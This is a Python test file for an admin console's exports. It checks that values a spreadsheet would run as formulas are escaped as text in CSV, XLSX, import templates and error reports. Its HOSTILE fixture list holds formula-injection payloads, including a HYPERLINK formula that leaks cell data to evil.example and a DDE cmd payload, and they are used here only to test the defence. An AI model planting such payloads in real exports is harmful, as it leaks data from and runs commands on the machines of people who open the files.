"""Exports safe to open: a value a spreadsheet would run as a formula is written as text in
every export (CSV, XLSX), import template and error report, and read back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from netsign_console.admin import export, importer
from netsign_console.admin.cell_safety import csv_value, from_csv, is_risky
from netsign_console.admin.query import ListParams
from tests.unit.admin_fixtures import DEV_A, WidgetAdmin, add_widgets, admin_db  # noqa: F401  admin_db is a fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


class HostileLabelAdmin(WidgetAdmin):
    slug = "t-widgets-hostile-label"
    labels = {"name": "=1+1", "area": "@面积"}


@pytest.mark.parametrize("value,risky", [
    ("=1+1", True), ("+86 139", True), ("-2+3", True), ("@cmd", True), ("\tx", True), ("\rx", True),
    ("-1,234.00", False), ("-12", False), ("+5%", False), ("3-0501", False), ("", False), ("星城", False), (12, False),
])
def test_which_values_are_formulas(value, risky):
    assert is_risky(value) is risky
    assert from_csv(csv_value(value)) == value


def test_hostile_values_are_inert_in_csv_and_read_back(admin_db):
    for value in HOSTILE:
        add_widgets(admin_db, 1, name=value)
    data = b"".join(export.iter_csv("t-widgets", DEV_A, ListParams(sort="name"), url=admin_db))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    names = sorted(r[0] for r in rows[1:])
    assert names == sorted("'" + v for v in HOSTILE)
    assert all(r[2] == "" or not r[2].startswith("'") for r in rows[1:])  # amounts stay numbers
    # The importer reads this console's CSV back to the very values.
    header, body = importer.read_table("部件.csv", data)
    assert sorted(row[0] for row in body) == sorted(HOSTILE) and header[0] == "部件名称"


def test_hostile_values_are_text_cells_in_xlsx(admin_db, tmp_path):
    for value in HOSTILE:
        add_widgets(admin_db, 1, name=value)
    path = tmp_path / "out.xlsx"
    export.write_export("t-widgets", DEV_A, ListParams(sort="name"), "xlsx", path, url=admin_db)
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)  # the text itself, no apostrophe added
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    amounts = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert not any(c.quotePrefix for c in amounts)


def test_templates_and_error_reports_follow_the_rule(admin_db):
    data = importer.template_xlsx("t-widgets-hostile-label", DEV_A)
    workbook = load_workbook(io.BytesIO(data))
    first = workbook.worksheets[0]["A1"]
    assert first.value == "=1+1*" and first.data_type == "s" and first.quotePrefix
    notes = {r[0].value: r[0] for r in workbook["填写说明"].iter_rows(min_row=2)}
    assert notes["=1+1"].data_type == "s" and notes["@面积"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert all("<f>" not in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    # An error report names the columns by their labels: a hostile label is escaped there too.
    hostile_file = "=1+1*,类型*\n,小型\n".encode()
    check = importer.check_file("t-widgets-hostile-label", DEV_A, "部件.csv", hostile_file, url=admin_db)
    report = importer.error_report_csv("t-widgets-hostile-label", DEV_A, check.token).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(report)))
    assert lines[1][1] == "'=1+1"
